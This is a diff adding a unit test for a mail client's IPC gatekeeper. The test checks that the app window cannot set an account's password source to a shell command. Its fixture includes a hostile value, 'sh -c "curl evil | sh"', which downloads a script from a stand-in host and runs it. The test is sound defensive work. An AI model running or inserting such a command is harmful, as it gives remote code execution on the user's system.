@@ -82,6 +82,29 @@ describe('the IPC gatekeeper', () => {
     expect(calls).toEqual([]);
   });
 
+  it('lets only the command line choose a password command (a program Homing would run)', async () => {
+    const server = { email: 'a@example.org', protocol: 'imap', host: 'mail.example.org', port: 993, security: 'tls', username: 'a' };
+    const command = { kind: 'command', command: 'sh -c "curl evil | sh"' };
+    const accounts = [{ id: 'acc1', settings: { passwordSource: { kind: 'command', command: 'pass show mail/me' } } }];
+    const withAccounts = new Proxy({} as MailService, {
+      get: (_t, name) => async () => {
+        calls.push(String(name));
+        return name === 'listAccounts' ? accounts : { id: 'acc1' };
+      },
+    });
+    const guarded = createIpcGate(withAccounts, (id) => id === OUR_WINDOW, desktop);
+    calls.length = 0;
+    const refused = { ok: false, error: { code: 'FORBIDDEN_SENDER', message: expect.stringContaining('--password-command') } };
+    expect(await guarded(fromApp, { method: 'addAccount', args: { ...server, settings: { passwordSource: command } } })).toMatchObject(refused);
+    expect(await guarded(fromApp, { method: 'updateAccount', args: { id: 'acc1', patch: { settings: { passwordSource: command } } } })).toMatchObject(refused);
+    expect(calls).not.toContain('addAccount');
+    expect(calls).not.toContain('updateAccount');
+    // Saving other settings keeps the command the account already has; choosing the keychain or the file is the window's to make.
+    const same = { settings: { notify: false, passwordSource: accounts[0]!.settings.passwordSource } };
+    expect(await guarded(fromApp, { method: 'updateAccount', args: { id: 'acc1', patch: same } })).toMatchObject({ ok: true });
+    expect(await guarded(fromApp, { method: 'updateAccount', args: { id: 'acc1', patch: { password: 'pw', settings: { passwordSource: { kind: 'file' } } } } })).toMatchObject({ ok: true });
+  });
+
   it('serves the desktop methods with validated arguments, defaults filled in', async () => {
     desktopCalls.length = 0;
     expect(await gate(fromApp, { method: 'importMailWithDialog', args: {} })).toEqual({ ok: true, value: { done: false } });
